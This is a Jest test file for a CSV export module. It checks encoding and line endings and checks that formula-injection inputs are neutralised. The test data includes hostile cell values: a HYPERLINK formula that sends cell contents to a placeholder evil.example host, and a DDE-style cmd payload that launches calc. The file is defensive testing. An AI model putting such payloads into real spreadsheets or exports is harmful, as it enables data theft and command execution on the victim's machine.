import { describe, expect, it } from '@jest/globals';
import { csvHead, csvRecords, neutraliseFormula } from './csv-writer.js';

describe('CSV writer', () => {
  it('writes UTF-8 with a BOM and CRLF, lists joined, formulas neutralised', () => {
    const csv =
      csvHead(['name', 'fields', 'note', 'n']) +
      csvRecords([['北海道', ['food', 'tourism'], '=HYPERLINK("x")', -5]]) +
      csvRecords([]) +
      csvRecords([['札幌', [], null, 0]]);
    expect(csv).toBe('\uFEFFname,fields,note,n\r\n北海道,food;tourism,"\'=HYPERLINK(""x"")",-5\r\n札幌,,,0\r\n');
  });

  it('the CSV export neutralises every formula-looking cell, -1+HYPERLINK included; only plain numbers pass', () => {
    const hostile = [
      '=HYPERLINK("https://evil.example/?d="&A1,"click")',
      '-1+HYPERLINK("https://evil.example","x")',
      '-1+1',
      '+1+1',
      '+81-11-222-3333',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '-',
      '-x',
      '-1e3',
      '\t=1+1',
      '\tplain',
      '\r=1+1',
      ' =1+1',
      '  @SUM(A1)',
      '\u3000=1+1',
      '\n-1+HYPERLINK("x")',
      '＝１＋１',
      '＋1',
      '－1+1',
      '＠SUM(A1)',
    ];
    for (const text of hostile) expect([text, neutraliseFormula(text)]).toEqual([text, `'${text}`]);
    for (const text of ['-12', '3.5', '-0.25', '0', '42', '株式会社北海道フーズ', 'a=b', 'x-1', '2024-04-01', '', 'ヤマダ タロウ'])
      expect([text, neutraliseFormula(text)]).toEqual([text, text]);
    const csv = csvRecords([['-1+HYPERLINK("x")', -12, 3.5, ['=1', 'food'], ' =2']]);
    expect(csv).toBe('"\'-1+HYPERLINK(""x"")",-12,3.5,\'=1;food,\' =2\r\n');
  });
});
